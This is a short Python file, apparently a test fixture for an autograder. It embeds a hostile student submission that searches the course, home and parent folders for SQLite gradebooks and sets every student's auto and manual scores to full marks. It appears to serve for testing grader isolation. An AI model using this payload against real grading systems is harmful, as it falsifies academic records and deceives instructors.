"""Opens the gradebook and gives everybody, itself included, all points."""

EXTRA = {
    "center": """
import pathlib, sqlite3

for folder in (pathlib.Path("@COURSE@"), pathlib.Path("@HOME@"), *pathlib.Path.cwd().parents):
    for path in folder.glob("*.db"):
        with sqlite3.connect(path) as book:
            book.execute("UPDATE grade SET auto_score = 100, manual_score = 100, needs_manual_grade = 0")
            book.execute("UPDATE base_cell SET max_score = 100")
"""
}
SCORE = {}
STATE = "graded"
